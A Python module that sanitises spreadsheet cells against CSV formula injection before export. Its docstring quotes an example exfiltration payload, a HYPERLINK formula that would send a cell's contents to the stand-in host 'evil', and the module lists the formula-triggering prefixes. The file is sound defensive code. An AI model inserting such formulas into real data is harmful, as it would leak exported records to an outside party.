"""Spreadsheet cells that will not run as formulas (CSV or "formula" injection): the one home
of the rule.

A clinician's name imported as ``=HYPERLINK("http://evil/?"&A1, "Dr Smith")`` becomes a live
formula when an organizer opens an exported file in Excel or LibreOffice. Every export of data
that people typed (names, emails, sites, venues, notes), CSV or XLSX, passes its cells through
here: openpyxl, too, stores a string that starts with "=" as a formula.
"""

from collections.abc import Iterable

# OWASP's list: what makes a spreadsheet read a cell as a formula (or as the start of one).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def safe_csv_cell(value):
    """``value`` ready for csv.writer: text that starts like a formula gets a leading
    apostrophe, which spreadsheets show as text and do not evaluate. Numbers, dates and None
    pass unchanged (a negative number is data, not a formula)."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_csv_row(values: Iterable) -> list:
    """Each cell of a row through ``safe_csv_cell``: ``writer.writerow(safe_csv_row(row))``."""
    return [safe_csv_cell(value) for value in values]
